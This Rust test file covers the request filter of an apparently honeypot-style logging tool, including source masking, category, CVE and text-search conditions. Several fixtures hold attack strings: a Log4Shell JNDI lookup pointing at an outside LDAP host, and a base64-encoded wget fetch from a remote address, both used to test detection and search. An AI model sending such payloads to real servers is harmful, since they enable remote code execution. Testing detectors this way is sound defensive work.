use std::net::Ipv4Addr;

use forever200_identify::Origin;

use super::needles::unescape;
use super::*;
use crate::bytes::printable;
use crate::history::found::Found;
use crate::history::{Column, Condition};
use crate::reader::Describer;
use crate::reader::entry::tests::{describer, entry, record};
use crate::reader::privacy::Privacy;

/// The visitor's address.
const VISITOR: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7));

fn asked(pairs: &[(&str, &str)]) -> FilterQuery {
    FilterQuery::of(pairs)
}

fn matches(query: FilterQuery, raw: &[u8]) -> bool {
    Filter::new(&query, VISITOR)
        .unwrap()
        .matches(&entry(record(raw)))
}

const POST: &[u8] = b"POST /a/b?c=d HTTP/1.1\r\nHost: Example\r\nContent-Length: 4\r\n\r\n\xff\\x4";

#[test]
fn each_condition_is_met_or_not() {
    let all = FilterQuery::default;
    assert!(matches(all(), POST) && matches(all(), b"\x16\x03\x01"));
    for (query, met) in [
        (asked(&[("method", "post")]), true),
        (asked(&[("method", "GET")]), false),
        (asked(&[("source", "203.0.113.7")]), true),
        (asked(&[("source", " 203.0.113.0/24 ")]), true),
        (asked(&[("source", "::ffff:203.0.113.7")]), true),
        (asked(&[("source", "203.0.113.7:41000")]), true),
        (asked(&[("source", "me")]), true),
        (asked(&[("-source", "me")]), false),
        (asked(&[("source", "203.0.113.8")]), false),
        (asked(&[("source", "2001:db8::/32")]), false),
        (asked(&[("protocol", "http")]), true),
        (asked(&[("protocol", "HTTP")]), true),
        (asked(&[("protocol", "tls")]), false),
        (asked(&[("-protocol", "tls")]), true),
        (asked(&[("-incomplete", "on")]), true),
        (asked(&[("-body", "off")]), true),
        (
            asked(&[("q", "host"), ("q", "example"), ("-q", "elsewhere")]),
            true,
        ),
        (asked(&[("q", "host"), ("q", "elsewhere")]), false),
        (asked(&[("path", "/a/")]), true),
        (asked(&[("path", "/b")]), false),
        (asked(&[("incomplete", "on")]), false),
        (asked(&[("body", "on")]), true),
        (asked(&[("host", "EXAMPLE")]), true),
        (asked(&[("host", "name"), ("-host", "address")]), true),
        (asked(&[("-host", "example")]), false),
        (asked(&[("host", "none")]), false),
        (
            asked(&[("ja4", "t13d1516h2_8daaf6152771_e5627efa2ab1")]),
            false,
        ),
        (asked(&[("port", "80")]), true),
        (asked(&[("port", " 79 - 81 ")]), true),
        (asked(&[("port", "8080")]), false),
        (asked(&[("-port", "1-79"), ("-port", "81-65535")]), true),
        (asked(&[("category", "exploit")]), false),
        (asked(&[("label", "x")]), false),
        (asked(&[("cve", "CVE-2021-44228")]), false),
        (asked(&[("country", "NL")]), false),
        (asked(&[("as", "64496")]), false),
        (asked(&[("method", "POST"), ("path", "/x")]), false),
    ] {
        assert_eq!(matches(query.clone(), POST), met, "{query:?}");
    }
    assert!(!matches(asked(&[("path", "/")]), b"\x16\x03\x01"));
}

fn hiding() -> Describer {
    describer(Privacy {
        hidden: "example".parse().unwrap(),
        ..Privacy::default()
    })
}

fn masking() -> Describer {
    describer(Privacy {
        mask_sources: true,
        ..Privacy::default()
    })
}

/// A request that meets a filter must have the texts and the host that the history searches for.
/// Otherwise the history would not find it.
#[test]
fn what_meets_a_filter_has_its_texts_and_its_host() {
    let raws: [&[u8]; 9] = [
        POST,
        b"GET /of/203.0.113.7/example HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n",
        b"get /a/b HTTP/1.0\r\n\r\n",
        b"PUT http://Example/A HTTP/1.1\r\nhost: EXAMPLE:80\r\n\r\n",
        b"PROPFIND /\xc3\xa9\xe9 HTTP/1.1\r\n\r\n",
        b"GET  /two  HTTP/1.1\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
        b"GET /a HTTP/1.1\r\nX-Forwarded-For: 192.0.2.1\r\nHost: a\\b\r\n\r\n",
        b"\x16\x03\x01",
    ];
    let conditions = [
        ("method", "post"),
        ("method", "get"),
        ("method", "PRI"),
        ("path", "/a"),
        ("path", "/A"),
        ("path", "/\u{e9}"),
        ("path", "http://example"),
        ("path", ""),
        ("q", "\\xff"),
        ("host", "example"),
        ("host", "a\\b"),
        ("claims", "192.0.2.0/24"),
    ];
    let plain = describer(Privacy::default());
    let hiding = hiding();
    let masking = masking();
    let describers = [&plain, &hiding, &masking];
    // The target as it is shown can be used as a condition.
    let mut shown = Vec::new();
    for describer in describers {
        for raw in raws {
            let http = Entry::new(&record(raw), 1, describer).http;
            shown.extend(http.map(|http| String::from_utf8_lossy(&http.target).into_owned()));
        }
    }
    let shown = shown.iter().map(|target| ("path", target.as_str()));
    let conditions: Vec<_> = conditions.into_iter().chain(shown).collect();
    let mut met = 0;
    for condition in conditions {
        for describer in describers {
            let filter = Filter::new(&asked(&[condition]), VISITOR).unwrap();
            for raw in raws {
                let entry = Entry::new(&record(raw), 1, describer);
                if !filter.matches(&entry) {
                    continue;
                }
                met += 1;
                let lower = raw.to_ascii_lowercase();
                for texts in filter.texts(describer) {
                    let has_one = texts.iter().any(|text| text.find(&lower).is_some());
                    assert!(has_one, "{condition:?} {}", raw.escape_ascii());
                }
                for Condition { column, excludes } in filter.conditions(describer) {
                    let Column::Host(name) = column else {
                        continue;
                    };
                    assert!(!excludes);
                    // The row may have been written when more was hidden.
                    for writer in describers {
                        let written = Found::new(&Entry::new(&record(raw), 1, writer)).host;
                        let may_be_it = written.is_none_or(|it| it.eq_ignore_ascii_case(&name));
                        assert!(may_be_it, "{name}");
                    }
                }
            }
        }
    }
    assert!(met > 20, "{met}");
}

/// A search in the bytes would reveal hidden texts by where it ends, or by finding too much.
#[test]
fn bytes_are_not_asked_for_what_may_be_hidden() {
    let plain = describer(Privacy::default());
    let hiding = hiding();
    let masking = masking();
    for condition in [("q", "example"), ("method", "get"), ("path", "/a")] {
        let filter = Filter::new(&asked(&[condition]), VISITOR).unwrap();
        assert_eq!(filter.texts(&plain).len(), 1, "{condition:?}");
        for describer in [&hiding, &masking] {
            assert!(filter.texts(describer).is_empty(), "{condition:?}");
        }
    }
}

#[test]
fn nothing_is_left_out_by_a_column_that_holds_for_more() {
    let plain = describer(Privacy::default());
    let masking = masking();
    let conditions = |condition, describer| {
        let filter = Filter::new(&asked(&[condition]), VISITOR).unwrap();
        filter.conditions(describer).len()
    };
    assert_eq!(conditions(("-source", "203.0.113.7"), &plain), 1);
    assert_eq!(conditions(("-source", "203.0.113.7"), &masking), 0);
    assert_eq!(conditions(("source", "203.0.113.7"), &masking), 1);
    assert_eq!(conditions(("-kind", "log4shell"), &plain), 0);
    assert_eq!(conditions(("kind", "log4shell"), &plain), 1);
    // This version may not find what another version found.
    for (is, is_not, value) in [
        ("label", "-label", "log4shell"),
        ("category", "-category", "exploit"),
        ("cve", "-cve", "CVE-2021-44228"),
        ("country", "-country", "NL"),
        ("as", "-as", "AS64496"),
        ("protocol", "-protocol", "http"),
    ] {
        assert_eq!(conditions((is, value), &plain), 1, "{is}");
        assert_eq!(conditions((is_not, value), &plain), 0, "{is_not}");
    }
}

#[test]
fn a_source_is_asked_for_as_it_is_shown() {
    let of = |src_ip: &str, src_prefix| {
        let record = forever200_ring::Record {
            src_ip: src_ip.parse().unwrap(),
            ..record(POST)
        };
        Entry {
            src_prefix,
            ..entry(record)
        }
    };
    let v6 = of("2001:db8::1", None);
    assert_eq!(v6.source, "[2001:db8::1]:41000");
    let mapped = of("::ffff:203.0.113.7", None);
    let (masked, masked_v6) = (of("203.0.113.0", Some(24)), of("2001:db8:7::", Some(48)));
    assert_eq!(masked.network().unwrap(), "203.0.113.0/24");
    assert_eq!(masked_v6.network().unwrap(), "2001:db8:7::/48");
    for (source, entry, met) in [
        ("[2001:db8::1]:41000", &v6, true),
        ("[2001:DB8:0::1]:1", &v6, true),
        ("2001:db8::1", &v6, true),
        ("2001:db8::/32", &v6, true),
        ("[2001:db8::2]:41000", &v6, false),
        ("[::ffff:203.0.113.7]:41000", &mapped, true),
        ("203.0.113.7:41000", &mapped, true),
        ("203.0.113.0/24", &masked, true),
        ("203.0.113.7/24", &masked, true),
        // The filter does not reveal whether it is this address.
        ("203.0.113.7", &masked, false),
        ("203.0.113.7:41000", &masked, false),
        ("203.0.114.0/24", &masked, false),
        ("2001:db8:7::/48", &masked_v6, true),
        ("2001:db8:7::7", &masked_v6, false),
        ("[2001:db8:7::7]:41000", &masked_v6, false),
    ] {
        let filter = Filter::new(&asked(&[("source", source)]), VISITOR).unwrap();
        assert_eq!(filter.matches(entry), met, "{source}");
    }
    for protocol in ["http", "HTTP", "Http", " hTTp "] {
        assert!(matches(asked(&[("protocol", protocol)]), POST));
    }
}

#[test]
fn an_attack_by_a_program_that_names_itself_is_not_ordinary() {
    let head = " HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Go-http-client/1.1\r\n\r\n";
    let visit = format!("GET /favicon.ico{head}");
    let attack = format!("GET /?x=${{jndi:ldap://198.51.100.1/a}}{head}");
    let nameless = b"GET /f3a9 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n";
    let labels = entry(record(attack.as_bytes())).labels;
    let is_ordinary = |category| category == forever200_identify::Category::Ordinary;
    assert!(labels.iter().any(|it| is_ordinary(it.signature.category)));
    for (raw, met) in [
        (visit.as_bytes(), true),
        (attack.as_bytes(), false),
        (nameless, false),
    ] {
        assert_eq!(matches(asked(&[("category", "ordinary")]), raw), met);
        assert_eq!(matches(asked(&[("-category", "ordinary")]), raw), !met);
    }
}

#[test]
fn labels_and_origin_are_conditions() {
    let raw = b"GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1\r\n\r\n";
    let origin = Origin {
        country: Some("NL".into()),
        asn: Some(64496),
        ..Origin::default()
    };
    let log4shell = Entry {
        origin: Some(origin),
        ..entry(record(raw))
    };
    for (query, met) in [
        (asked(&[("category", "exploit")]), true),
        (asked(&[("category", "login")]), false),
        (asked(&[("category", "unrecognised")]), false),
        (asked(&[("-category", "Unrecognised")]), true),
        (asked(&[("-category", "exploit")]), false),
        (asked(&[("cve", "cve-2021-44228")]), true),
        (asked(&[("cve", "CVE-2021-4422")]), false),
        (
            asked(&[("label", &*log4shell.labels[0].signature.id)]),
            true,
        ),
        (asked(&[("country", "nl"), ("as", "AS64496")]), true),
        (asked(&[("country", "DE")]), false),
        (asked(&[("as", "64497")]), false),
    ] {
        assert_eq!(
            Filter::new(&query, VISITOR).unwrap().matches(&log4shell),
            met,
            "{query:?}"
        );
    }
}

#[test]
fn text_is_found_as_sent_and_as_shown() {
    let shown = printable::line(POST, 1000);
    for (q, found) in [
        ("EXAMPLE", true),
        (r"\r\nHost: ex", true),
        (r"\xff", true),
        (r"\x4", true),
        (r"\xfe", false),
        ("é", false),
        (&*shown, true),
    ] {
        assert_eq!(matches(asked(&[("q", q)]), POST), found, "{q}");
    }
    let bidi = "a\u{202e}b".as_bytes();
    assert!(matches(asked(&[("q", r"a\u{202e}B")]), bidi));
}

#[test]
fn text_is_found_in_what_an_encoding_hides() {
    let encoded = b"GET /?name=M%C3%BCller&x=d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3g= HTTP/1.1\r\n\r\n";
    for (q, found) in [
        ("Müller", true),
        ("mülLER", true),
        ("M%C3%BCller", true),
        ("WGET http://198.51.100.9/", true),
        ("wget ftp", false),
    ] {
        assert_eq!(matches(asked(&[("q", q)]), encoded), found, "{q}");
    }
    let sent = "GET /?name=Müller HTTP/1.1\r\n\r\n";
    assert!(matches(asked(&[("q", "Müller")]), sent.as_bytes()));
}

#[test]
fn odd_escapes_are_text() {
    for q in [
        r"\",
        r"\x",
        r"\xé",
        r"\u{}",
        r"\u{110000}",
        r"\u{d800}",
        r"\q",
        r"\\",
    ] {
        assert_eq!(unescape(q), q.as_bytes(), "{q}");
    }
}

#[test]
fn a_bad_field_is_named() {
    for (query, reason) in [
        (asked(&[("source", "here")]), "source: "),
        (asked(&[("source", "10.0.0.0/33")]), "source: "),
        (
            asked(&[("protocol", "gopher")]),
            "protocol: expected one of http, tls",
        ),
        (
            asked(&[("category", "evil")]),
            "category: expected one of exploit, ",
        ),
        (asked(&[("as", "AS-1")]), "as: "),
        (asked(&[("body", "maybe")]), "body: "),
        (asked(&[("claims", "yes")]), "claims: "),
        (asked(&[("port", "http")]), "port: "),
        (asked(&[("port", "65536")]), "port: "),
        (asked(&[("port", "90-80")]), "port: "),
        (asked(&[("port", "80-")]), "port: "),
    ] {
        let error = Filter::new(&query, VISITOR).unwrap_err();
        assert!(error.starts_with(reason), "{error}");
    }
}

#[test]
fn an_address_that_is_claimed_is_asked_for_apart_from_the_source() {
    let raw = b"GET / HTTP/1.1\r\nX-Forwarded-For: 198.51.100.7, 10.0.0.1\r\n\r\n";
    for (query, met) in [
        (asked(&[("claims", "198.51.100.7")]), true),
        (asked(&[("claims", "10.0.0.0/8")]), true),
        (asked(&[("-claims", "10.0.0.0/8")]), false),
        (asked(&[("claims", "198.51.100.8")]), false),
        (asked(&[("claims", "203.0.113.7")]), false),
        (asked(&[("source", "198.51.100.7")]), false),
        (
            asked(&[("source", "203.0.113.7"), ("claims", "0.0.0.0/0")]),
            true,
        ),
    ] {
        assert_eq!(matches(query.clone(), raw), met, "{query:?}");
    }
    assert!(!matches(asked(&[("claims", "0.0.0.0/0")]), POST));
}

#[test]
fn a_sensor_is_asked_for_by_its_name() {
    let of = |name: Option<&str>| {
        let mut record = record(POST);
        record.sensor = name.map(|name| crate::reader::sensor::tests::sent(name, 1));
        entry(record)
    };
    let (local, berlin, odd) = (of(None), of(Some("berlin-1")), of(Some("<Berlin>")));
    for (name, value, met) in [
        ("sensor", "berlin-1", [false, true, false]),
        ("sensor", " Berlin-1 ", [false, true, false]),
        ("sensor", "berlin", [false, false, false]),
        ("-sensor", "berlin-1", [true, false, true]),
    ] {
        let filter = Filter::new(&asked(&[(name, value)]), VISITOR).unwrap();
        let found = [&local, &berlin, &odd].map(|entry| filter.matches(entry));
        assert_eq!(found, met, "{name}={value}");
    }
    for value in ["a b", "ä", "a.b", &"a".repeat(41)] {
        let refused = Filter::new(&asked(&[("sensor", value)]), VISITOR);
        assert!(
            refused.unwrap_err().starts_with("sensor: expected "),
            "{value}"
        );
    }
}
